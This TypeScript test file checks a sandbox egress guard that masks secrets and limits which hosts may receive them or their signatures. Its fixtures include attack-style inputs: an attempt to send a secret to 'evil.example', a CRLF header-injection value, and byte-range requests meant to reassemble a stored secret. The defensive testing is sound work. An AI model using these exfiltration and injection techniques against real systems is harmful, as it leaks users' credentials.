import { createHmac } from 'node:crypto'
import type http from 'node:http'
import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { decodeJwt } from 'jose'
import { describe, expect, test } from 'vitest'
import type { SecretUse } from '../../lib/contracts/document/secret-use.ts'
import { placeholder, refusalOf, setUpGuard } from '../../lib/testing/setup/sandbox/egress-guard.ts'

const egress = setUpGuard()
const { admit, ask, urlOf } = egress

describe('a request', () => {
  test('carries a secret to its host, and an echo of it is replaced by the placeholder', async () => {
    admit()
    const arrived: string[] = []
    egress.answer = async (request, response) => {
      const brought = [request.url, request.headers.authorization, await text(request)].join(' ')
      arrived.push(brought)
      response.writeHead(200, { 'x-echo': brought, 'content-length': brought.length }).end(brought)
    }
    const sent = { method: 'POST', headers: { authorization: `Bearer ${placeholder}` } }
    const there = await ask(urlOf('api.example', `/?k=${placeholder}`), {
      ...sent,
      body: Readable.from([placeholder]),
    })
    const elsewhere = await ask(urlOf('evil.example', `/?k=${placeholder}`), {
      ...sent,
      body: Readable.from([placeholder]),
    })

    const harmless = `/?k=${placeholder} Bearer ${placeholder} ${placeholder}`
    expect(arrived).toEqual(['/?k=s3cret-value Bearer s3cret-value s3cret-value', harmless])
    expect([there.headers['x-echo'], await text(there)]).toEqual([harmless, harmless])
    expect(await text(elsewhere)).toBe(harmless)
  })

  describe('to a host that receives a secret', () => {
    /** Serves ranges of the last uploaded text, `stored`, as most servers do. */
    const store = () => {
      const file = { stored: '', requests: 0 }
      egress.answer = async (request, response) => {
        file.requests += 1
        if (request.method === 'PUT') {
          file.stored = await text(request)
          return void response.end('stored')
        }
        const range = request.headers.range ?? request.headers['request-range'] ?? request.url?.split('?')[1]
        const [, from, to] = /bytes=(\d+)-(\d+)/.exec(String(range)) ?? []
        if (from === undefined) return void response.end(file.stored)
        const part = file.stored.slice(Number(from), Number(to) + 1)
        const contentRange = `bytes ${from}-${to}/${file.stored.length}`
        response.writeHead(206, { 'content-range': contentRange }).end(part)
      }
      return file
    }
    /** Returns what code in the sandbox can read of the stored file, requested part by part. */
    const assemble = async (
      askFor: (range: string) => { rest?: string; headers?: Record<string, string> },
    ) => {
      const file = store()
      await ask(urlOf('api.example', '/file'), { method: 'PUT', body: Readable.from([placeholder]) })
      expect(file.stored).toBe('s3cret-value')
      const parts: string[] = []
      const refusals = new Set<string>()
      for (let at = 0; at < 12; at += 4) {
        const { rest = '/file', headers } = askFor(`bytes=${at}-${at + 3}`)
        const response = await ask(urlOf('api.example', rest), { headers })
        refusals.add(refusalOf(response))
        parts.push(await text(response))
      }
      return { assembled: parts.join(''), refusals: [...refusals], requests: file.requests - 1 }
    }

    // biome-ignore format: table
    test.each([['range'], ['if-range'], ['request-range'], ['a-im']])(
      'is refused when %s asks for a part, before it is sent', async (name) => {
        admit()
        const { assembled, refusals, requests } = await assemble((range) => ({ headers: { range, [name]: range } }))

        expect(requests).toBe(0)
        expect(assembled).not.toContain('s3cr')
        expect(refusals).toEqual([expect.stringMatching(/^api\.example receives a secret .* partial responses/)])
      },
    )

    test('is refused when the host answers with a part on its own account', async () => {
      admit()
      const { assembled, refusals } = await assemble((range) => ({ rest: `/file?${range}` }))

      expect(assembled).not.toContain('s3cr')
      expect(refusals).toEqual([expect.stringContaining('partial response (status 206)')])
    })

    test.each([226, 200])('is refused when status %i comes with a range', async (status) => {
      admit()
      egress.answer = (_request, response) =>
        response.writeHead(status, { 'content-range': 'bytes 0-3/12' }).end('s3cr')

      expect(refusalOf(await ask(urlOf('api.example')))).toContain('its partial response')
    })

    test('may ask for parts of other hosts’ answers', async () => {
      admit()
      egress.answer = (_request, response) =>
        response.writeHead(206, { 'content-range': 'bytes 0-1/9' }).end('ab')
      const response = await ask(urlOf('other.example'), { headers: { range: 'bytes=0-1' } })

      expect([response.statusCode, await text(response)]).toEqual([206, 'ab'])
    })

    test('is answered without it in the names of headers', async () => {
      admit()
      egress.answer = (_request, response) => response.writeHead(200, { 'x-s3cret-value': 'here' }).end()
      const { headers } = await ask(urlOf('api.example'))

      expect(Object.keys(headers).join()).not.toContain('s3cret-value')
      expect(headers).toMatchObject({ [`x-${placeholder}`.toLowerCase()]: 'here' })
    })
  })
})

describe('a secret that signs', () => {
  const secret = { key: 'api_key', value: 's3cret-value', placeholder, hosts: ['api.example'] }
  const hmac = {
    kind: 'hmac',
    algorithm: 'sha256',
    sign: '{method}{path}{body}',
    header: 'X-Signature',
  } as const
  const jwt = { kind: 'jwt', algorithm: 'HS256' } as const

  const recordArrivals = () => {
    const arrived: { headers: http.IncomingHttpHeaders; body: string }[] = []
    egress.answer = async (request, response) => {
      arrived.push({ headers: request.headers, body: await text(request) })
      response.writeHead(302, { location: urlOf('other.example') }).end(String(request.headers.authorization))
    }
    return arrived
  }

  test('is not sent, and its signature of the whole request goes to its hosts only', async () => {
    admit({ secrets: [{ ...secret, use: hmac }] })
    const arrived = recordArrivals()
    const post = (host: string) =>
      ask(urlOf(host, '/a?b=1'), {
        ...{ method: 'POST', headers: { 'x-signature': 'of the code', 'x-key': placeholder } },
        body: Readable.from(['one, ', placeholder]),
      })

    await post('api.example')
    await post('other.example')

    const body = `one, ${placeholder}`
    const signature = createHmac('sha256', 's3cret-value').update(`POST/a?b=1${body}`).digest('hex')
    expect(arrived.map((each) => [each.headers['x-signature'], each.headers['x-key'], each.body])).toEqual([
      [signature, placeholder, body],
      ['of the code', placeholder, body],
    ])
  })

  test('gives a token to its hosts only, which the code cannot read from an echo', async () => {
    admit({ secrets: [{ ...secret, use: jwt }] })
    const arrived = recordArrivals()

    const answer = await text(await ask(urlOf('api.example')))
    await ask(urlOf('other.example'))

    const [there, elsewhere] = arrived.map(({ headers }) => headers.authorization)
    expect(decodeJwt(there!.replace('Bearer ', ''))).toEqual({
      iat: expect.any(Number),
      exp: expect.any(Number),
    })
    expect(elsewhere).toBeUndefined()
    expect(answer).toMatch(/^Bearer sbxsec_/)
  })

  test.each<[string, SecretUse]>([
    ['a signature with a line break', { ...hmac, prefix: 'a\r\nX-Evil: b' }],
    [
      'an access key with a line break',
      { kind: 'aws-sigv4', accessKeyId: 'A\nB', service: 's3', region: 'eu' },
    ],
    ['a region outside of Latin-1', { kind: 'aws-sigv4', accessKeyId: 'AKIA', service: 's3', region: '€' }],
  ])('is refused for %s, which no header can carry', async (_, use) => {
    admit({ secrets: [{ ...secret, use }] })
    const arrived = recordArrivals()

    const answer = await ask(urlOf('api.example'))

    expect(await refusalOf(answer)).toMatch(
      /^The request to api\.example(:\d+)? cannot be signed with the setting api_key: /,
    )
    expect(arrived).toEqual([])
  })

  test('refuses a body above the limit of a request', async () => {
    const { overspent } = admit({ secrets: [{ ...secret, use: hmac }] })
    recordArrivals()

    const refused = await ask(urlOf('api.example'), {
      method: 'POST',
      body: Readable.from(Array.from({ length: 11 }, () => Buffer.alloc(1024 * 1024))),
    }).catch(() => undefined)

    expect(refused?.statusCode ?? 403).toBe(403)
    expect(overspent).toEqual(['The skill signed more than 10 MB, the limit for one request.'])
  })
})
